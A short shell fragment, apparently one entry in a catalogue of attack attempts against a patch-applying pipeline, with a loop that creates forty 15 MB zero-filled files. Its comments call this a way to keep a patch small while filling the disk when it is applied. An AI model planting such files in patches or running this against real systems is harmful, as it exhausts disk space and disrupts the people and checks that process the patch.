# tries: Adds files of zeros that are small in a compressed patch and fill the disk when it is applied.
# layer: verdict
for number in $(seq 40); do truncate -s 15M "zeros-$number.bin"; done
